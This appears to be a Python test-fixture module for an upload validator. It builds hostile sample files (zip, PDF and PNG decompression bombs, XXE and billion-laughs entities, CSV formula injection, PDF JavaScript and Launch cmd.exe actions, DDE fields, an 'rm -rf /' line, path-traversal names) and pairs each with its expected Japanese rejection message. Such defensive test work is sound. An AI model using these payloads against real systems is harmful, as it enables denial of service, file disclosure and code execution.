"""The corpus of hostile uploads: each file built by code, with the answer that it must get.

`REFUSED` maps a name of the sample to (file name, builder, words of the sentence). `DISARMED` samples are kept without
what acts by itself, `RENAMED` ones under a harmless name.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from io import BytesIO
from typing import Final

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf

from tests.documents.files import DOCX_TYPE, RELS, docx, package, pdf, picture, png, png_chunk, types, xlsx, xlsx_parts

Build = Callable[[], bytes]
MEGABYTE: Final = 1024 * 1024
EICAR: Final = (r"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*").encode()
LAUGHS: Final = (
    '<!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY l{n} "{"&a;" * 10 if n == 0 else f"&l{n - 1};" * 10}">' for n in range(9))
    + "]><workbook>&l8;</workbook>"
)
XXE: Final = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><workbook>&e;</workbook>'
SVG: Final = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def _external(kind: str, target: str = "https://evil.example/t.dotm") -> str:
    return RELS.format(f'<Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>')


def _part(name: str, content: bytes | str) -> Build:
    return lambda: xlsx(**{name: content})


def _word(name: str, content: bytes | str) -> Build:
    return lambda: docx(**{name: content})


# --- packages


def _flat_bomb() -> bytes:
    return xlsx(**{"xl/media/image1.bmp": b"\0" * (300 * MEGABYTE)})


def _lying_bomb() -> bytes:
    """A part that says it is small and is not: the size in both headers is forged."""
    content = bytearray(xlsx(**{"xl/worksheets/sheet2.xml": b"<x>" + b" " * (60 * MEGABYTE)}))
    true, small = struct.pack("<I", 60 * MEGABYTE + 3), struct.pack("<I", 100)
    return bytes(content.replace(true, small))


def _many_bomb() -> bytes:
    return xlsx(**{f"xl/worksheets/sheet{n}.xml": b"<x>" + b" " * (20 * MEGABYTE) for n in range(2, 14)})


def _crowd() -> bytes:
    return package(xlsx_parts() | {f"xl/media/{n}.xml": b"<x/>" for n in range(100_000)})


def _overlap() -> bytes:
    """Two entries of the directory lead to the same data."""
    content = xlsx(**{"xl/a.xml": "<a/>" * 50, "xl/b.xml": "<a/>" * 50})
    with zipfile.ZipFile(BytesIO(content)) as archive:
        first, second = archive.getinfo("xl/a.xml"), archive.getinfo("xl/b.xml")
    directory = content.index(b"PK\x01\x02")
    place = content.index(b"xl/b.xml", directory) - 4
    assert content[place : place + 4] == struct.pack("<I", second.header_offset)
    return content[:place] + struct.pack("<I", first.header_offset) + content[place + 4 :]


def _locked_zip() -> bytes:
    content = bytearray(xlsx())
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def _twice() -> bytes:
    return xlsx(**{"XL/Workbook.xml": "<workbook/>"})


def _zip() -> bytes:
    return package({"a.txt": b"a"})


def _nested() -> bytes:
    return xlsx(**{"xl/media/image1.png": package({"b.bin": b"\0" * MEGABYTE})})


def _deep() -> bytes:
    inner = docx(**{"word/embeddings/Sheet.xlsx": xlsx()})
    return docx(**{"word/embeddings/Inner.docx": inner})


def _inner_macro() -> bytes:
    return docx(**{"word/embeddings/Sheet.xlsx": xlsx(**{"xl/vbaProject.bin": b"\xd0\xcf"})})


# --- PDF


def _raw_stream(data: bytes, filters: object) -> Build:
    def change(document: Pdf) -> None:
        stream = document.make_stream(b"")
        stream.write(data, filter=filters)  # type: ignore[arg-type]
        document.pages[0].obj["/Contents"] = stream

    return lambda: pdf(change, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def _object_stream_bomb() -> bytes:
    """The table of objects itself swells: the PDF cannot even be listed without unpacking 900 MB."""
    packed = zlib.compressobj(9)
    data = b"".join(packed.compress(b" " * MEGABYTE) for _ in range(900)) + packed.flush()
    head = b"%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
    body = head + str(len(data)).encode() + b">>stream\n" + data + b"\nendstream\nendobj\n"
    xref = b"2 0 obj\n<</Type/XRef/Size 4/W[1 4 1]/Root 3 0 R/Length 24>>stream\n"
    rows = struct.pack(">BIB", 0, 0, 0) + struct.pack(">BIB", 1, 9, 0)
    rows += struct.pack(">BIB", 1, len(body), 0) + struct.pack(">BIB", 2, 1, 0)
    return body + xref + rows + b"\nendstream\nendobj\nstartxref\n" + str(len(body)).encode() + b"\n%%EOF"


def _huge_picture(document: Pdf) -> None:
    stream = document.make_stream(b"\0")
    stream.update({"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 30_000, "/Height": 30_000})
    document.pages[0].obj["/Resources"] = Dictionary(XObject=Dictionary(Im0=stream))


def _nested_arrays() -> bytes:
    return pdf().replace(b"/Type /Catalog", b"/Type /Catalog /X " + b"[" * 5000 + b"]" * 5000)


def _signed(document: Pdf) -> None:
    script(document)
    document.Root["/Sig"] = document.make_indirect(Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3])))


def locked_pdf() -> bytes:
    return pdf(encryption=pikepdf.Encryption(user="geheim", owner="geheim"))


def restricted_pdf() -> bytes:
    return pdf(encryption=pikepdf.Encryption(user="", owner="geheim"))


def script(document: Pdf) -> None:
    document.Root["/OpenAction"] = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def _named_script(document: Pdf) -> None:
    action = document.make_indirect(Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
    document.Root["/Names"] = Dictionary(JavaScript=Dictionary(Names=Array(["x", action])))


def _link(action: Dictionary) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
        document.pages[0].obj["/Annots"] = Array([document.make_indirect(note)])

    return change


def _page_action(document: Pdf) -> None:
    document.pages[0].obj["/AA"] = Dictionary(O=Dictionary(S=Name.JavaScript, JS="app.alert(1)"))


def _attached(document: Pdf) -> None:
    document.attachments["evil.exe"] = b"MZ evil"


def _attached_note(document: Pdf) -> None:
    stream = document.make_stream(b"MZ evil")
    file = Dictionary(Type=Name.Filespec, F="evil.exe", EF=Dictionary(F=stream))
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=file)
    document.pages[0].obj["/Annots"] = Array([document.make_indirect(note)])


def _xfa(document: Pdf) -> None:
    document.Root["/AcroForm"] = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))


def _rich(document: Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]), RichMediaContent=Dictionary())
    document.pages[0].obj["/Annots"] = Array([document.make_indirect(note)])


# --- pictures


def _png_bomb() -> bytes:
    return png(100, 100, b"\0" * (400 * MEGABYTE))


def _text_bomb() -> bytes:
    packed = zlib.compress(b"A" * (200 * MEGABYTE), 9)
    return png(2, 2, b"\0\0\0" * 2, extra=png_chunk(b"zTXt", b"Comment\0\0" + packed))


REFUSED: Final[Mapping[str, tuple[str, Build, str]]] = {
    # the name, the size, the kind
    "empty": ("空.pdf", lambda: b"", "空(0バイト)"),
    "too large": ("大.pdf", lambda: b"%PDF-1.7" + b"0" * (21 * MEGABYTE), "上限の20MB"),
    "no ending": ("見積書", pdf, "種類の分からない"),
    "program": ("setup.exe", lambda: b"MZ" + b"\0" * 99, "「.exe」の種類"),
    "double ending": ("見積書.pdf.exe", pdf, "「.exe」の種類"),
    "hidden ending": ("見積書\u202efdp.exe", pdf, "「.exe」の種類"),
    "page": ("書類.html", lambda: b"<script>alert(1)</script>", "「.html」の種類"),
    "drawing": ("地図.svg", lambda: SVG, "「.svg」の種類"),
    "archive": ("一式.zip", _zip, "「.zip」の種類"),
    "macro workbook": ("計算.xlsm", xlsx, "「.xlsm」の種類"),
    "macro document": ("申請.docm", docx, "「.docm」の種類"),
    "old workbook": ("計算.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "「.xls」の種類"),
    "fax": ("受信.tiff", lambda: b"II*\0", "「.tiff」の種類"),
    # the name says one thing, the content another
    "page as PDF": ("a.pdf", lambda: b"<!DOCTYPE html><html></html>", "中身はPDFではありません"),
    "program as PDF": ("a.pdf", lambda: b"MZ" + b"\0" * 200, "中身は exe"),
    "picture as PDF": ("a.pdf", picture, "中身は png"),
    "late head": ("a.pdf", lambda: b"GIF89a\n" + pdf(), "中身はPDFではありません"),
    "PDF as picture": ("a.png", pdf, "登録できません"),
    "JPEG as PNG": ("a.png", lambda: picture("JPEG"), "PNG画像ではありません"),
    "PNG as JPEG": ("a.jpg", picture, "読み取れません"),
    "drawing as picture": ("a.png", lambda: SVG, "HTMLやスクリプト"),
    "zip as workbook": ("a.xlsx", _zip, "中身はそうではありません"),
    "document as workbook": ("a.xlsx", docx, "中身はそうではありません"),
    "old format as workbook": ("a.xlsx", lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 600, "パスワード付き"),
    "binary as table": ("a.csv", lambda: b"\0\1\2\3" * 20, "文字でないデータ"),
    "page as table": ("a.csv", lambda: b"<html><script>1</script></html>", "HTMLやスクリプト"),
    "XML as table": ("a.csv", XXE.encode, "HTMLやスクリプト"),
    "PDF as table": ("a.csv", lambda: b"%PDF-1.7 1 2 3", "違う種類"),
    "shell as table": ("a.csv", lambda: b"#!/bin/sh\nrm -rf /\n", "違う種類"),
    "strange code": ("a.csv", lambda: b"a,b\xff\xff\xfe,c", "文字コード"),
    "calling cell": ("a.csv", lambda: b"name,=cmd|' /C calc'!A0\r\n", "呼び出す式"),
    "fetching cell": ("a.csv", lambda: b'1,"=WEBSERVICE(""https://evil.example"")"\n', "呼び出す式"),
    # PDF
    "locked PDF": ("a.pdf", locked_pdf, "パスワードで保護"),
    "restricted PDF": ("a.pdf", restricted_pdf, "保護されています"),
    "cut PDF": ("a.pdf", lambda: pdf()[:120], "読み取れません"),
    "no PDF behind its head": ("a.pdf", lambda: b"%PDF-1.7\n" + b"\xff" * 500, "読み取れません"),
    "script at the head": ("a.pdf", lambda: b"%PDF-1.7\n<script>alert(1)</script>\n" + pdf(), "HTMLやスクリプト"),
    "no pages": ("a.pdf", lambda: pdf(pages=0), "頁数が0"),
    "many pages": ("a.pdf", lambda: pdf(pages=301), "頁数が301"),
    "nested filters": (
        "a.pdf",
        _raw_stream(zlib.compress(zlib.compress(b"x" * 99)), Array([Name.FlateDecode, Name.FlateDecode])),
        "何重にも",
    ),
    "three filters": (
        "a.pdf",
        _raw_stream(b"00>", Array([Name.ASCIIHexDecode, Name.ASCII85Decode, Name.RunLengthDecode])),
        "何重にも",
    ),
    "stream bomb": ("a.pdf", _raw_stream(zlib.compress(b"0 " * (150 * MEGABYTE), 9), Name.FlateDecode), "200MB"),
    "object bomb": ("a.pdf", _object_stream_bomb, "登録できません"),
    "huge picture inside": ("a.pdf", lambda: pdf(_huge_picture), "30,000×30,000画素"),
    "deep arrays": ("a.pdf", _nested_arrays, "登録できません"),
    "signed with script": ("a.pdf", lambda: pdf(_signed), "電子署名のあるPDF"),
    # pictures
    "pixel bomb": ("a.png", lambda: png(30_000, 30_000, b"\0" * 100), "30,000×30,000画素"),
    "row bomb": ("a.png", _png_bomb, "大きさの記載と合いません"),
    "text bomb": ("a.png", _text_bomb, "読み取れません"),
    "no size": ("a.png", lambda: png(0, 0, b""), "読み取れません"),
    "picture and archive": ("a.png", lambda: picture() + _zip(), "別のデータ"),
    "JPEG and page": ("a.jpg", lambda: picture("JPEG") + b"<script>alert(1)</script>", "HTMLやスクリプト"),
    "JPEG and archive": ("a.jpg", lambda: picture("JPEG") + _zip(), "別のデータ"),
    "JPEG and PDF": ("a.jpg", lambda: picture("JPEG") + pdf(), "HTMLやスクリプト"),
    "cut PNG": ("a.png", lambda: picture()[:-20], "読み取れません"),
    "cut JPEG": ("a.jpg", lambda: picture("JPEG", (400, 300))[:900], "読み取れません"),
    "JPEG pixel bomb": (
        "a.jpg",
        lambda: picture("JPEG").replace(struct.pack(">HH", 30, 40), struct.pack(">HH", 60_000, 60_000), 1),
        "画素数が上限",
    ),
    # office documents
    "flat bomb": ("a.xlsx", _flat_bomb, "200MB"),
    "lying bomb": ("a.xlsx", _lying_bomb, "登録できません"),
    "bomb of many parts": ("a.xlsx", _many_bomb, "200MB"),
    "crowd of parts": ("a.xlsx", _crowd, "上限の5,000個"),
    "overlapping parts": ("a.xlsx", _overlap, "読み取れません"),
    "nested archive": ("a.xlsx", _nested, "圧縮ファイルが含まれ"),
    "nested documents": ("a.docx", _deep, "圧縮ファイルが含まれ"),
    "locked workbook": ("a.xlsx", _locked_zip, "パスワードで保護"),
    "cut workbook": ("a.xlsx", lambda: xlsx()[:-30], "読み取れません"),
    "program before a workbook": ("a.xlsx", lambda: b"MZ" + xlsx(), "違う種類"),
    "billion laughs": ("a.xlsx", _part("xl/sharedStrings.xml", LAUGHS), "DTD・実体"),
    "outside entity": ("a.xlsx", _part("xl/styles.xml", XXE), "DTD・実体"),
    "entity in UTF-16": ("a.xlsx", _part("xl/styles.xml", XXE.encode("utf-16")), "DTD・実体"),
    "entity in UTF-7": (
        "a.xlsx",
        _part("xl/styles.xml", b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x'),
        "読み取れません",
    ),
    "entity far behind": ("a.xlsx", _part("xl/styles.xml", "<!--" + "x" * 262_140 + "-->" + XXE), "DTD・実体"),
    "macros": ("a.xlsx", _part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0"), "マクロが含まれ"),
    "old macros": ("a.xlsx", _part("xl/macrosheets/sheet1.xml", "<x/>"), "マクロが含まれ"),
    "macros in Word": ("a.docx", _word("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"), "マクロが含まれ"),
    "macro type": (
        "a.xlsx",
        _part("[Content_Types].xml", types("application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
        "マクロが含まれ",
    ),
    "other type": ("a.xlsx", _part("[Content_Types].xml", types(DOCX_TYPE)), "種類が違います"),
    "macros inside": ("a.docx", _inner_macro, "マクロが含まれ"),
    "OLE object": ("a.docx", _word("word/embeddings/oleObject1.bin", b"\xd0\xcf"), "埋め込まれ"),
    "ActiveX": ("a.xlsx", _part("xl/activeX/activeX1.xml", "<x/>"), "埋め込まれ"),
    "program inside": ("a.docx", _word("word/media/setup.exe", b"MZ"), "埋め込まれ"),
    "DDE link": ("a.xlsx", _part("xl/externalLinks/externalLink1.xml", '<ddeLink ddeService="cmd"/>'), "DDE"),
    "DDE field": ("a.docx", _word("word/footer1.xml", "<w:instrText>DDEAUTO c:\\cmd</w:instrText>"), "DDE"),
    "outside template": ("a.docx", _word("word/_rels/settings.xml.rels", _external("attachedTemplate")), "外部の"),
    "outside frame": ("a.docx", _word("word/_rels/webSettings.xml.rels", _external("frame")), "外部の"),
    "part outside": ("a.xlsx", _part("../../etc/cron.d/x", "x"), "名前が正しくありません"),
    "part at the root": ("a.xlsx", _part("/etc/passwd", "x"), "名前が正しくありません"),
    "part twice": ("a.xlsx", _twice, "名前が正しくありません"),
}
DISARMED: Final[Mapping[str, tuple[Build, str]]] = {
    "script on opening": (lambda: pdf(script), "JavaScript"),
    "named script": (lambda: pdf(_named_script), "JavaScript"),
    "script in a packed object": (
        lambda: pdf(_named_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "JavaScript",
    ),
    "script in a page": (lambda: pdf(_page_action), "自動で動く操作"),
    "launch": (lambda: pdf(_link(Dictionary(S=Name.Launch, F="cmd.exe"))), "プログラムの起動"),
    "next action": (
        lambda: pdf(_link(Dictionary(S=Name.GoTo, D="x", Next=Dictionary(S=Name.Launch, F="cmd.exe")))),
        "プログラムの起動",
    ),
    "form post": (lambda: pdf(_link(Dictionary(S=Name.SubmitForm, F="https://evil.example"))), "フォームの送信"),
    "other file": (lambda: pdf(_link(Dictionary(S=Name.GoToR, F="\\\\evil\\share"))), "別のファイルへの移動"),
    "attachment": (lambda: pdf(_attached), "添付ファイル"),
    "attachment as a note": (lambda: pdf(_attached_note), "添付ファイル"),
    "XFA form": (lambda: pdf(_xfa), "XFAフォーム"),
    "rich media": (lambda: pdf(_rich), "動画・音声"),
}
RENAMED: Final[Mapping[str, str]] = {
    "../../etc/passwd.pdf": "passwd.pdf",
    "..\\..\\windows\\win.pdf": "win.pdf",
    "C:\\書類\\見積書.pdf": "見積書.pdf",
    "見積\u202e書\u2066.pdf": "見積書.pdf",
    "見積\x00書\r\nX.pdf": "見積書X.pdf",
    "zero\u200bwidth\ufeff.pdf": "zerowidth.pdf",
    "CON.pdf": "_CON.pdf",
    "lpt1.見積.pdf": "_lpt1.見積.pdf",
    "請求書.exe.pdf": "請求書_exe.pdf",
    "a.html.pdf": "a_html.pdf",
    'a"><img src=x>.pdf': "a___img src=x_.pdf",
    ".pdf": "無題.pdf",
    "... .pdf": "無題.pdf",
    " 見積書.pdf. ": "見積書.pdf",
    "髙橋㈱﨑.pdf": "髙橋㈱﨑.pdf",
    "長" * 300 + ".pdf": "長" * 78 + ".pdf",
    "e\u0301tude.pdf": "e\u0301tude.pdf",
}
